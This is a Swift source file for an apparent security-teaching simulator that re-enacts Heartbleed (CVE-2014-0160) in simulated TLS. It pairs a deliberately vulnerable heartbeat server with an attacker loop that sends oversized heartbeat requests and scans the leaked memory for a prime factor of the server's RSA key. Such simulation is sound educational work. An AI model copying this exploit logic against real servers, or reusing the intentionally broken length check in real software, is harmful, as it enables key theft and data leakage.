import Crypto
import PKI
import Simulator
import TCPSim
import TLSSim
import Trace

/// A server believes the payload_length of a heartbeat and sends back parts of its memory (CVE-2014-0160).
enum Heartbleed: Exhibit {
    static let card = Card(
        "heartbleed", in: .implementation, from: .peer, to: .key, unit: .heartbeats, year: 2014,
        cites: [.rfc(6520, "4")],
        cves: ["CVE-2014-0160"], words: HeartbleedCard.self)

    private static let suite = CipherSuite.rsaAES128GCM
    /// The payload_length that she announces. With the type, the length and the padding, the answer fills a record.
    private static let announced = RecordLimits.plaintext - 3 - Heartbeat.paddingLength
    /// The length of a prime factor of a modulus of 2,048 bits, in octets.
    private static let factorLength = 128
    /// The number of heartbeats after which she gives up. Without the rule one run in 10^11 would need more.
    private static let patience = 400
    /// The number of heartbeats without an answer after which she gives up.
    private static let silences = 5

    static func perform(_ show: Performance) throws -> Outcome {
        let stage = show.stage()
        let victims = try Victims(show, suite)
        let server = stage.add(StageHost(.server, at: .server, show.tcp("server")))
        let key = victims.cast.pki.serverKey
        let memory = ServerMemory(of: key, show.seeds.fork("memory"))
        stage.listen(server, port: 443) { _ in
            BleedingServer(
                program: victims.server(configure: { $0.agreesToHeartbeats = true }), memory: memory,
                places: show.seeds.fork("places"), checksLength: show.extent)
        }
        var attacker = show.attacker(on: stage)

        var outcome = Outcome()
        // One of the octets that come back is her own.
        let (leaked, size) = (announced - 1, ServerMemory.size)
        outcome.theory = .geometric(
            Double(leaked - factorLength + 1) / Double(size), formula: "geometric((L - l + 1)/M)",
            parameters: [("L", Double(leaked)), ("l", Double(factorLength)), ("M", Double(size))],
            words: .heartbeat(octets: leaked, places: size, hits: leaked - factorLength + 1))
        outcome.evidence = [("server", .socket(Socket(.server, 443)))]
        outcome.truth = [("p", key.p.bigEndian)]
        outcome.connections = [0]
        outcome.reproduce = [
            "tshark -r FILE -Y 'tls.record.content_type==24' -T fields -e frame.number -e ip.src -e tls.record.length "
                + "| head -n 4"
        ]
        var client = attacker.hello(to: Socket(.server, 443), suite, extensions: [Heartbeat.mayBeSent])
        attacker.awaitFlight(&client)
        guard client.serverHello?.extensions.contains(Heartbeat.mayBeSent) == true, let leaf = client.chain.first,
            case .rsa(let certified)? = try? CertifiedKey.key(inCertificate: leaf)
        else { return outcome }
        outcome.say(HeartbleedNote.begins, frames: [attacker.frame()])
        let request = Heartbeat(
            .request, announcing: announced, [0x2a] + attacker.random.octets(Heartbeat.paddingLength))
        var silent = 0
        while outcome.tries < patience, silent < silences, !client.line.isOver {
            client.line.send(request.record)
            outcome.tries += 1
            let (first, known) = (attacker.frame(), client.others.count)
            attacker.wait(atMost: .seconds(1)) {
                client.read()
                return client.others.count > known
            }
            guard client.others.count > known, let answer = client.others.last.flatMap({ Heartbeat($0.fragment) })
            else {
                silent += 1
                continue
            }
            if outcome.tries == 1 {
                outcome.say(
                    HeartbleedNote.asks(announced), frames: [first, attacker.frame()], cite: .rfc(6520, "4"),
                    [
                        .init("heartbeat request", request.record),
                        .init("what came back, its beginning", Array(answer.rest.prefix(64))),
                    ])
            }
            guard let (factor, place, isLittle) = factor(of: certified.n, in: answer.rest) else { continue }
            outcome.loot = [("p", factor.bigEndian)]
            outcome.reached = true
            outcome.say(
                HeartbleedNote.divides(outcome.tries, place: place, isLittle: isLittle),
                frames: [first, attacker.frame()], [.init("p", factor.bigEndian)])
            show.find(outcome)
            break
        }
        client.line.abort()
        _ = attacker.wait(.seconds(1))
        if !outcome.reached { outcome.say(HeartbleedNote.silence(outcome.tries), cite: .rfc(6520, "4")) }
        return outcome
    }

    /// The first ``factorLength`` adjacent octets whose number divides the modulus, and their place; nil if there are none. The octets are read
    /// with the most significant first and with the least significant first.
    private static func factor(
        of n: Integer, in octets: [UInt8]
    ) -> (factor: Integer, place: Int, isLittle: Bool)? {
        guard octets.count >= factorLength else { return nil }
        for place in 0...(octets.count - factorLength) {
            let (head, tail) = (octets[place], octets[place + factorLength - 1])
            // A prime factor is odd, and its highest bit is set. So more than half of the windows need no division.
            for isLittle in [false, true] where (isLittle ? tail : head) >= 0x80 && (isLittle ? head : tail) & 1 == 1 {
                let window = octets[place..<(place + factorLength)]
                let number = Integer(bigEndian: isLittle ? Array(window.reversed()) : Array(window))
                if n.modulo(number) == 0 { return (number, place, isLittle) }
            }
        }
        return nil
    }
}

/// The memory of the server: a ring of octets, so that each place in it is as likely as the others.
struct ServerMemory: Sendable {
    /// The size in octets.
    static let size = 1 << 18
    private(set) var octets: [UInt8]

    /// Memory with requests, random octets, and one prime factor of a key.
    init(of key: RSAPrivateKey, _ random: SeededRandomSource) {
        var random = random
        func number(below bound: Int) -> Int { random.integer(below: Integer(bound)).int ?? 0 }
        octets = [UInt8](repeating: 0, count: Self.size)
        for _ in 0..<400 {
            let cookie = Array("GET /inbox HTTP/1.1\r\nCookie: id=\(Hex.string(random.octets(8)))\r\n\r\n".utf8)
            put(cookie, at: number(below: Self.size))
        }
        for _ in 0..<64 { put(random.octets(512), at: number(below: Self.size)) }
        // A library for large numbers stores the least significant octet first. The file of a key has the most significant octet first.
        let isLittle = number(below: 2) == 0
        put(isLittle ? key.p.bigEndian.reversed() : key.p.bigEndian, at: number(below: Self.size))
    }

    private mutating func put(_ content: [UInt8], at place: Int) {
        for (index, octet) in content.enumerated() { octets[(place + index) % Self.size] = octet }
    }

    /// Reads `count` octets from `place` on.
    func read(_ count: Int, from place: Int) -> [UInt8] { (0..<count).map { octets[(place + $0) % Self.size] } }
}

/// A server that answers heartbeats at any time. Its TLS answers all other records.
struct BleedingServer: Application {
    private(set) var program: TLSProgram
    let memory: ServerMemory
    /// Draws the place in the memory of each request's buffer, and the padding of the answers.
    private(set) var places: SeededRandomSource
    /// How much of the rule it keeps. Half: it compares the length with the longest record, not with the record that it has received.
    let checksLength: RuleCoverage
    /// The octets of a record that is not complete.
    private(set) var buffer: [UInt8] = []

    var role: Role? { program.role }
    var state: String? { program.state }

    mutating func handle(_ event: ApplicationEvent) -> [ApplicationAction] {
        guard case .read(let octets) = event else { return program.handle(event) }
        buffer += octets
        var actions: [ApplicationAction] = []
        while let header = RecordHeader(buffer), buffer.count >= RecordLimits.header + Int(header.length) {
            let record = Array(buffer.prefix(RecordLimits.header + Int(header.length)))
            buffer.removeFirst(record.count)
            if header.typeCode == Heartbeat.contentType {
                actions += answer(Heartbeat(Array(record.dropFirst(RecordLimits.header))))
            } else {
                actions += program.handle(.read(record))
            }
        }
        return actions
    }

    private mutating func answer(_ request: Heartbeat?) -> [ApplicationAction] {
        guard let request, request.kind == .request else { return [] }
        let place = places.integer(below: Integer(ServerMemory.size)).int ?? 0
        var payload = Array(request.rest.prefix(request.announced))
        if !request.isWhole {
            // The rule: a heartbeat that announces more than it holds is discarded silently (RFC 6520 section 4).
            let isTooLong = request.announced > RecordLimits.plaintext
            if checksLength == .whole || checksLength == .half && isTooLong { return [] }
            payload = Array(request.rest.prefix(max(0, request.rest.count - Heartbeat.paddingLength)))
            payload += memory.read(request.announced - payload.count, from: place)
        }
        let response = Heartbeat(
            .response, announcing: request.announced, payload + places.octets(Heartbeat.paddingLength))
        return [.pass(.octets(response.record, step: "tls.heartbeat"))]
    }
}
